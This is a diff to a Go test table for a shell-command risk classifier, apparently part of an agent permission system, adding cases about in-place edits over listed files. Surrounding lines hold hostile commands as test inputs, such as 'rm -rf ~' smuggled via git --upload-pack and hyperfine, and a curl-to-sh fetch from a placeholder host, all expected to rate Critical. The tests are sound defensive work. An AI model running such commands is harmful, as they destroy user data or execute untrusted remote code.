@@ -153,6 +153,13 @@ func TestClassReadOnlyByName(t *testing.T) {
 		{src: `git clone --upload-pack='rm -rf ~' https://github.com/o/r`, min: Critical, source: "GTFOBins git"},
 		{src: `git clone -u 'rm -rf ~' https://github.com/o/r`, min: Critical, source: "git-clone(1): -u is --upload-pack"},
 		{src: `hyperfine 'rm -rf ~'`, min: Critical, source: "tldr hyperfine: operands are commands"},
+		// In-place edits of the files the repository lists stay in the workspace.
+		{src: `sed -i 's/a/b/g' $(git ls-files '*.md')`, max: Medium, notRule: "fs.write.unknown", source: "git-ls-files(1)"},
+		{src: `clang-format -i $(git ls-files '*.cc')`, max: Medium, notRule: "fs.write.unknown", source: "tldr clang-format"},
+		{src: `sed -i 's/a/b/' $(rg -l foo src)`, max: Medium, notRule: "fs.write.unknown", source: "tldr rg -l"},
+		{src: `sed -i 's/a/b/' $(cat list.txt)`, rule: "fs.write.unknown", source: "a list the analysis cannot see"},
+		{src: `sed -i 's/a/b/' $(find ~ -name '*.rc')`, min: Medium, notRule: "base.workspace-write", source: "find outside the workspace"},
+		{src: `cd ~ && sed -i 's/a/b/' $(git ls-files)`, rule: "fs.write.unknown", source: "a repository that is not the workspace"},
 		{src: `hyperfine -w 3 --prepare 'curl -s https://x.example/i | sh' 'make'`, min: Critical, source: "hyperfine --help: --prepare CMD"},
 		{src: `hyperfine -P n 1 3 'sleep {n}'`, max: Low, source: "tldr hyperfine: parameter scan"},
 		{src: `hyperfine --warmup 3 'go test ./...' 'make build'`, max: Low, source: "tldr hyperfine"},
